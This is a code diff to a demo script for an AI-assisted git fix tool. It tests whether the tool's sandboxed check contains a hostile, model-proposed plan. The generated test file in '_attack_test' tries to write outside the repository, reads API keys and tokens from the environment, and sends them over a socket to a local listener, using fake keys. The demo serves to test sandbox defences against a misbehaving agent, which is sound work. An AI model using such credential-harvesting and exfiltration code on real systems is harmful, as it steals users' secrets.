@@ -115,7 +115,7 @@ def patch_plan(new_line: str, summary: str) -> dict[str, object]:
 
 def demo_apply(papayu: list[str]) -> None:
     repo = sample_repo()
-    sh("git", "config", "papayu.checkCommand", CHECK, cwd=repo)
+    sh("git", "config", "papayu.check.command", CHECK, cwd=repo)
     step("The sample project's test fails")
     assert sh(*shlex.split(CHECK), cwd=repo, check=False).returncode != 0
     head = sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip()
@@ -163,7 +163,7 @@ def show_check_sandbox(repo: Path, apply_stderr: str) -> None:
         "--format=%(trailers:key=Papayu-Check,key=Papayu-Check-Command,key=Papayu-Check-Source,key=Papayu-Sandbox)",
         cwd=repo,
     ).stdout
-    assert said and "Papayu-Check-Source: git config papayu.checkCommand" in trailers
+    assert said and "Papayu-Check-Source: git config papayu.check.command" in trailers
     assert "Papayu-Check: passed 1, fixed 1, already failing 0" in trailers  # the verdict, per test
     if SANDBOX_REASON is None:
         assert said[0].endswith("sandbox: bwrap)") and "Papayu-Sandbox: bwrap" in trailers
@@ -218,14 +218,14 @@ def reached_host(targets: dict[str, Path], marker: str) -> list[str]:
     return found
 
 
-def _attack_test(targets: dict[str, Path], marker: str, port: int) -> str:
+def _attack_test(targets: dict[str, Path], marker: str, port: int, token: str) -> str:
     """The test file of a hostile plan: it appends the marker to every target, tries the network,
     prints what it saw from inside, and (written as an exploit's proof) passes only if it stole a key."""
     attempts = [(what, str(path)) for what, path in targets.items()]
     return textwrap.dedent(f"""\
         import os, socket
 
-        TARGETS, MARKER, PORT = {attempts!r}, {marker!r}, {port}
+        TARGETS, MARKER, PORT, TOKEN = {attempts!r}, {marker!r}, {port}, {token!r}
 
 
         def attempt(what, action):
@@ -234,6 +234,11 @@ def _attack_test(targets: dict[str, Path], marker: str, port: int) -> str:
                 print(f"ATTACK {{what}}: written, as the test sees it")
             except Exception as exc:
                 print(f"ATTACK {{what}}: blocked ({{type(exc).__name__}}: {{exc}})")
+
+
+        def send(data):
+            with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
+                s.sendall(TOKEN.encode() + data)
 
 
         def append(path):
@@ -246,8 +251,7 @@ def _attack_test(targets: dict[str, Path], marker: str, port: int) -> str:
                 attempt(f"{{what}} {{path}}", lambda path=path: append(path))
             stolen = {{k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "TOKEN", "SECRET"))}}
             print("ATTACK read API keys from the environment:", sorted(stolen) or "none there")
-            attempt(f"send them to 127.0.0.1:{{PORT}}",
-                    lambda: socket.create_connection(("127.0.0.1", PORT), timeout=2).close())
+            attempt(f"send them to 127.0.0.1:{{PORT}}", lambda: send(repr(stolen).encode()))
             print("ATTACK HOME is", os.environ.get("HOME"))
             assert stolen, "the exploit got no key"
     """)
@@ -262,7 +266,7 @@ def demo_hostile(papayu: list[str]) -> None:
     repo = sample_repo("sample-hostile")
     (repo / "calc.py").write_text(BUGGY.replace("a - b", "a + b"))
     subprocess.run(["git", "commit", "-q", "-am", "fix add"], cwd=repo, check=True)
-    sh("git", "config", "papayu.checkCommand", CHECK, cwd=repo)
+    sh("git", "config", "papayu.check.command", CHECK, cwd=repo)
     (repo / "calc.py").write_text("# my uncommitted edit\n" + (repo / "calc.py").read_text())
     marker = f"papayu-demo-escape-{os.urandom(8).hex()}"
     targets = escape_targets(repo, marker)
@@ -318,12 +322,13 @@ def _apply_hostile(
     from papayu_git.check.sandbox import LoopbackListener
 
     with LoopbackListener() as listener:
+        token = listener.token()  # what the attack sends first: only its own connection counts
         plan = {
             "actions": [
                 {
                     "kind": "CREATE_FILE",
                     "path": "tests/test_hostile.py",
-                    "content": _attack_test(targets, marker, listener.port),
+                    "content": _attack_test(targets, marker, listener.port, token),
                 }
             ],
             "summary": "add a test",
@@ -339,9 +344,10 @@ def _apply_hostile(
             show=False,
             env={"OPENAI_API_KEY": FAKE_KEY, "GITHUB_TOKEN": "ghp_demo0000notarealtoken"},
         )
+        reached = listener.reached(token)
     sys.stdout.write(proc.stdout)  # the check's output tail is left out here: the report below is in it
     print("\n".join(line for line in proc.stderr.splitlines() if line.startswith(("check", "ERR_", "warning"))))
-    return proc, listener.accepted
+    return proc, reached
 
 
 def demo_agent(papayu: list[str]) -> None:
@@ -349,7 +355,7 @@ def demo_agent(papayu: list[str]) -> None:
     from scripted_agent import ScriptedAgentServer
 
     repo = sample_repo("sample-agent")
-    sh("git", "config", "papayu.checkCommand", CHECK, cwd=repo)
+    sh("git", "config", "papayu.check.command", CHECK, cwd=repo)
     head = sh("git", "rev-parse", "HEAD", cwd=repo, show=False).stdout.strip()
     server = ScriptedAgentServer()
     try:
@@ -416,20 +422,19 @@ def demo_local_model(papayu: list[str]) -> None:
     The tiny model is often wrong; a rejected answer or a rolled-back fix is a valid ending:
     the point is that nothing reaches the user's branch unless the check passes."""
     step("The whole flow with a real model: the embedded local llama.cpp server (Gemma 3 270M)")
-    if importlib.util.find_spec("llama_cpp") is None:
+    if importlib.util.find_spec("xllamacpp") is None:
         print("papayu-git[local] is not installed here (make venv installs it); skipping the model step")
         print(STRONGER_MODEL)
         return
     repo = sample_repo("sample-llm")
-    sh("git", "config", "papayu.checkCommand", CHECK, cwd=repo)
+    sh("git", "config", "papayu.check.command", CHECK, cwd=repo)
     head = sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip()
     env = {k: v for k, v in os.environ.items() if not k.startswith("PAPAYU_LLM_")}
     env.update(PAPAYU_LLM_MAX_TOKENS="400", PAPAYU_LLM_TIMEOUT_SEC="900", PAPAYU_LOG="1")
     goal = "fix the failing test tests/test_calc.py: add() must return a + b"
     print(f"$ git papayu fix {goal!r} -y    (no provider configured -> the local model is started)", flush=True)
-    proc = subprocess.run([*papayu, "fix", goal, "-y"], cwd=repo, env=env, text=True, capture_output=True)
-    sys.stdout.write(proc.stdout)
-    sys.stdout.write(proc.stderr[-6000:])
+    print("(a small model on this machine's CPU: minutes on a busy one; papayu's events show each step)", flush=True)
+    proc = subprocess.run([*papayu, "fix", goal, "-y"], cwd=repo, env=env, text=True)  # live, as it happens
     landed = proc.returncode == 0 and sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip() != head
     if landed:
         step("The model's fix passed the sandboxed check and landed")
@@ -476,7 +481,7 @@ def main(argv: list[str] | None = None) -> None:
     WORK.mkdir()
     papayu = [sys.executable, "-m", "papayu_git"]
     # The demo shows the defaults, whatever this shell sets: sandbox when bwrap works, no network.
-    os.environ.update(PAPAYU_SANDBOX="auto", PAPAYU_CHECK_NETWORK="false")
+    os.environ.update(PAPAYU_CHECK_SANDBOX="auto", PAPAYU_CHECK_NETWORK="false")
     os.environ.pop("PAPAYU_CHECK_COMMAND", None)  # each sample repository configures its own check
     SANDBOX_REASON = unavailable_reason()
     print(
